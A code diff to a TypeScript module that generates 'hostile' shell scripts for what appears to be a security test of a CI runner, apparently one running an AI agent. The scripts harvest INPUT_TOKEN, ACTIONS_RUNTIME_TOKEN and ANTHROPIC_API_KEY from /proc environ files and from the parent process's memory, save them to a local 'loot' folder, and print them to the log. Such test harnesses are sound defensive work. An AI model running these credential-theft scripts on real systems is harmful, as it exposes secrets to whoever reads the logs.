@@ -3,6 +3,8 @@
  * the word `forged` in it; what it got hold of it puts into `loot`, a folder that stands for a server of its own.
  */
 
+import { STEAL_MEMORY } from './steal-memory.js';
+
 /** Where the scripts find things. */
 export interface HostileGround {
   /** Absolute. */
@@ -18,6 +20,7 @@ export function hostile(name: string): string {
 export function hostileFiles(ground: HostileGround): Readonly<Record<string, string>> {
   const begin = `set +e\nloot='${ground.loot}'\n${RUNNER_FACTS}`;
   return {
+    'hostile/steal-memory.mjs': STEAL_MEMORY,
     'hostile/print.sh': begin + PRINT,
     'hostile/files.sh': begin + COMMAND_FILES,
     'hostile/steal.sh': begin + STEAL,
@@ -29,7 +32,8 @@ export function hostileFiles(ground: HostileGround): Readonly<Record<string, str
 
 /** What it can find out about the job, although nothing in its environment tells. */
 const RUNNER_FACTS = `
-of_runner() { tr '\\0' '\\n' < /proc/$PPID/environ | sed -n "s/^$1=//p"; }
+steal() { '${process.execPath}' --input-type=module -e "$(cat hostile/steal-memory.mjs)" "$PPID" "$@"; }
+of_runner() { steal "$1" | sed "s/^$1=//"; }
 job=$(readlink /proc/$PPID/cwd)
 `;
 
@@ -69,8 +73,10 @@ done
 
 /** All tokens in reach, and then it tells them to everybody who reads the log. */
 const STEAL = `
-cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^(INPUT_TOKEN|ACTIONS_RUNTIME_TOKEN|ANTHROPIC_API_KEY)=' |
-  sort -u > "$loot/tokens-$me"
+{
+  cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^(INPUT_TOKEN|ACTIONS_RUNTIME_TOKEN|ANTHROPIC_API_KEY)=.'
+  steal INPUT_TOKEN ACTIONS_RUNTIME_TOKEN ANTHROPIC_API_KEY
+} | sort -u > "$loot/tokens-$me"
 for token in $(of_runner INPUT_TOKEN) $(of_runner ACTIONS_RUNTIME_TOKEN); do
   echo "the token is $token"
   printf '%s' "$token" | base64 -w 0 >&2
